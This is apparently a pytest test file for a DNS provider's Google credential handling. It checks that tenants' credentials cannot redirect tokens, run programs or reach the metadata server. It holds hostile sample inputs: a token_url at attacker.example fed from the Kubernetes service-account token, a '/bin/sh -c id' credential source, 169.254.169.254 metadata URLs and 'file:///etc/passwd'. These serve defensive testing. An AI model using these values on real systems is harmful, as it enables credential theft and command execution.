"""Who the google provider is: its settings, its Secret, and what of the process it may not use."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mailseal.providers.base import AuthenticationFailed, InvalidConfiguration, Unavailable
from mailseal.providers.google.provider import GoogleProvider
from mailseal.providers.google.settings import API, TOKEN_URI, GoogleSettings
from mailseal.providers.surroundings import Surroundings
from mailseal.records.names import DnsName
from support.backends.google import ACCOUNT, GoogleHarness, account_key, key_file
from support.servers.clouddns import PROJECT
from support.servers.vendorapi import Reply, Request, VendorServer, cut, instead

TENANT = Surroundings(name="DnsProvider zorg/google", trusted=False, ambient_credentials=False)
"""What a DnsProvider of a namespace gets."""
SETTINGS = {"project": PROJECT, "timeoutSeconds": 5}
SECRET_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
HOSTILE: dict[str, dict[str, Any]] = {
    "a file of the operator": {
        "type": "external_account",
        "audience": "//iam.googleapis.com/x",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": "https://attacker.example/steal",
        "credential_source": {"file": SECRET_FILE},
    },
    "a program": {
        "type": "external_account",
        "audience": "//iam.googleapis.com/x",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": "https://sts.googleapis.com/v1/token",
        "credential_source": {"executable": {"command": "/bin/sh -c id"}},
    },
    "the metadata server": {
        "type": "external_account",
        "audience": "//iam.googleapis.com/x",
        "subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
        "token_url": "http://169.254.169.254/",
        "credential_source": {"environment_id": "aws1", "url": "http://169.254.169.254/latest/meta-data"},
    },
    "a workforce": {"type": "external_account_authorized_user", "token_url": "http://169.254.169.254/"},
    "a user": {"type": "authorized_user", "refresh_token": "x", "client_id": "x", "client_secret": "x"},
    "another identity": {
        "type": "impersonated_service_account",
        "source_credentials": {"type": "authorized_user"},
        "service_account_impersonation_url": "http://169.254.169.254/",
    },
    "a private cloud": {"type": "gdch_service_account", "ca_cert_path": SECRET_FILE},
    "no type": {"client_email": ACCOUNT},
}


def encoded(content: Any) -> dict[str, bytes]:
    return {"credentials.json": json.dumps(content).encode()}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("surroundings", [TENANT, Surroundings()], ids=["tenant", "trusted"])
def test_credentials_that_lead_elsewhere_are_refused_and_not_shown(
    content: dict[str, Any], surroundings: Surroundings
) -> None:
    with pytest.raises(InvalidConfiguration, match="must be the key of a service account") as caught:
        GoogleProvider.from_settings(SETTINGS, encoded(content), surroundings)

    assert "attacker" not in str(caught.value)
    assert SECRET_FILE not in str(caught.value)


@pytest.mark.parametrize(
    "token_uri",
    [
        "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
        "https://oauth2.googleapis.com.attacker.example/token",
        "https://oauth2.googleapis.com@attacker.example/token",
        "https://oauth2.googleapis.com/token?x",
        "http://oauth2.googleapis.com/token",
        "file:///etc/passwd",
        7,
        None,
        [],
    ],
)
def test_a_tenants_key_is_signed_in_at_google_only(token_uri: object) -> None:
    with pytest.raises(InvalidConfiguration, match=f"token_uri .* must be {TOKEN_URI}"):
        GoogleProvider.from_settings(
            SETTINGS, encoded({**key_file(TOKEN_URI), "token_uri": token_uri}), TENANT
        )


@pytest.mark.parametrize("token_uri", [TOKEN_URI, "https://accounts.google.com/o/oauth2/token"])
def test_keys_of_any_age_are_signed_in_at_todays_address(token_uri: str) -> None:
    parsed = GoogleSettings.parse(SETTINGS, encoded(key_file(token_uri)), TENANT)

    assert parsed.key is not None
    assert parsed.key.token_uri == TOKEN_URI
    assert parsed.endpoint == API


@pytest.mark.parametrize(
    ("settings", "credentials", "words"),
    [
        ({"project": None}, {}, "project is missing"),
        ({"project": "Zorg DNS"}, {}, "project"),
        ({"project": "a/../../b-project"}, {}, "project"),
        ({"managedZones": "one"}, {}, "managedZones must be a list"),
        ({"managedZones": ["zorg.nl"]}, {}, "managedZones: 'zorg.nl'"),
        ({"managedZones": ["a/../../x"]}, {}, "managedZones"),
        ({"timeoutSeconds": "5"}, {}, "timeoutSeconds"),
        ({"endpoint": "dns.example"}, {}, "endpoint"),
        ({"zones": "a.example"}, {}, "zones"),
        ({}, {"key": b"x"}, "no key 'credentials.json'"),
        ({}, {"credentials.json": b"\xff\xfe"}, "no JSON object"),
        ({}, {"credentials.json": b"[" * 100_000}, "no JSON object"),
        ({}, {"credentials.json": b'"text"'}, "no JSON object"),
        ({}, encoded(key_file(TOKEN_URI, private_key="")), "no private_key"),
        ({}, encoded(key_file(TOKEN_URI, client_email=7)), "no client_email"),
        ({}, encoded(key_file(TOKEN_URI, private_key="-----BEGIN NONSENSE-----")), "private_key .* read"),
        ({}, encoded(key_file(TOKEN_URI, private_key=account_key()[1])), "private_key .* read"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_named(settings: dict[str, Any], credentials: dict[str, bytes], words: str) -> None:
    given = {field: value for field, value in {**SETTINGS, **settings}.items() if value is not None}

    with pytest.raises(InvalidConfiguration, match=words):
        GoogleProvider.from_settings(given, credentials)


def test_a_tenant_cannot_have_the_token_sent_elsewhere() -> None:
    with pytest.raises(InvalidConfiguration, match="ClusterDnsProvider"):
        GoogleProvider.from_settings(
            {**SETTINGS, "endpoint": "http://169.254.169.254"}, encoded(key_file(TOKEN_URI)), TENANT
        )


def test_providers_share_a_budget_only_with_the_same_key() -> None:
    one = GoogleSettings.parse(SETTINGS, encoded(key_file(TOKEN_URI)), TENANT)
    same = GoogleSettings.parse({**SETTINGS, "managedZones": ["x"]}, encoded(key_file(TOKEN_URI)), TENANT)
    claimed = GoogleSettings.parse(SETTINGS, encoded(key_file(TOKEN_URI, private_key="guessed")), TENANT)

    assert one.account == same.account
    assert one.account != claimed.account


def test_the_key_is_never_shown() -> None:
    settings = GoogleSettings.parse(SETTINGS, encoded(key_file(TOKEN_URI)), TENANT)

    assert "PRIVATE KEY" not in repr(settings)


@pytest.fixture
def google() -> Iterator[GoogleHarness]:
    harness = GoogleHarness()
    yield harness
    harness.close()


class Metadata:
    """The metadata server of Google Cloud (cloud.google.com/compute/docs/metadata/overview)."""

    def __init__(self, token: str) -> None:
        self.token = token
        self.server = VendorServer(self._answer)

    def _answer(self, request: Request) -> Reply:
        flavor = {"Metadata-Flavor": "Google"}
        if request.path.endswith("/token"):
            return Reply(
                200, {"access_token": self.token, "expires_in": 3599, "token_type": "Bearer"}, flavor
            )
        if request.path.endswith("/service-accounts/default/"):
            return Reply(200, {"email": ACCOUNT, "aliases": ["default"], "scopes": []}, flavor)
        if request.path.endswith("/universe-domain"):
            return Reply(404, b"", flavor)
        return Reply(200, PROJECT.encode(), {**flavor, "Content-Type": "application/text"})


@pytest.fixture
def metadata(google: GoogleHarness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Metadata]:
    """An operator on a machine of Google Cloud that has an identity."""
    google.server.tokens.add("token-of-the-operator")
    running = Metadata("token-of-the-operator")
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))
    for name in ("GCE_METADATA_HOST", "GCE_METADATA_ROOT", "GCE_METADATA_IP"):
        monkeypatch.setenv(name, f"127.0.0.1:{running.server.port}")
    yield running
    running.server.close()


async def test_the_operators_identity_is_used_where_it_is_allowed(
    google: GoogleHarness, metadata: Metadata
) -> None:
    zone = google.new_zone()
    settings = {**SETTINGS, "endpoint": google.server.api.url}
    provider = GoogleProvider.from_settings(settings, {}, google.surroundings)

    assert await provider.zone_of(zone) == zone

    assert metadata.server.requests
    await provider.close()


async def test_a_tenant_needs_a_secret_although_the_operator_has_an_identity(
    metadata: Metadata, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "operator.json").write_text(json.dumps(key_file(TOKEN_URI)))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "operator.json"))

    with pytest.raises(InvalidConfiguration, match="credentialsSecretRef is needed"):
        GoogleProvider.from_settings(SETTINGS, {}, TENANT)

    assert metadata.server.requests == []


async def test_a_secret_that_is_not_accepted_never_falls_back_on_the_operators_identity(
    google: GoogleHarness, metadata: Metadata
) -> None:
    zone = google.new_zone()
    provider = google.open_with(key_file(google.server.token_uri, client_email="x@y.example"), zones=[zone])

    with pytest.raises(AuthenticationFailed, match="does not accept the service account"):
        await provider.survey()

    assert metadata.server.requests == []
    assert [request.path for request in google.server.api.requests] == ["/token"]
    await provider.close()


async def test_a_token_is_got_once_and_used(google: GoogleHarness) -> None:
    zone = google.new_zone()
    provider = google.open_with()

    assert await provider.zone_of(zone) == zone
    await provider.survey()

    assert [request.path for request in google.server.api.requests].count("/token") == 1
    await provider.close()


@pytest.mark.parametrize(
    ("fault", "kind"),
    [
        (instead(400, {"error": "invalid_grant"}), AuthenticationFailed),
        (instead(403, b"<html>"), AuthenticationFailed),
        (instead(200, b"nonsense"), Unavailable),
        (instead(200, {"token_type": "Bearer"}), AuthenticationFailed),
        (cut, Unavailable),
    ],
    ids=["400", "403", "nonsense", "no token", "cut"],
)
async def test_a_token_endpoint_that_fails_is_an_error_of_the_provider(
    google: GoogleHarness, fault: Any, kind: type
) -> None:
    google.server.api.faults.append(fault)
    provider = google.open_with()

    with pytest.raises(kind):
        await provider.zone_of(DnsName("a.example"))
    await provider.close()


async def test_a_machine_without_any_identity_is_told(
    google: GoogleHarness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "missing.json"))
    settings = {**SETTINGS, "endpoint": google.server.api.url}
    provider = GoogleProvider.from_settings(settings, {}, google.surroundings)

    with pytest.raises(AuthenticationFailed, match="has no identity"):
        await provider.zone_of(DnsName("a.example"))
    await provider.close()
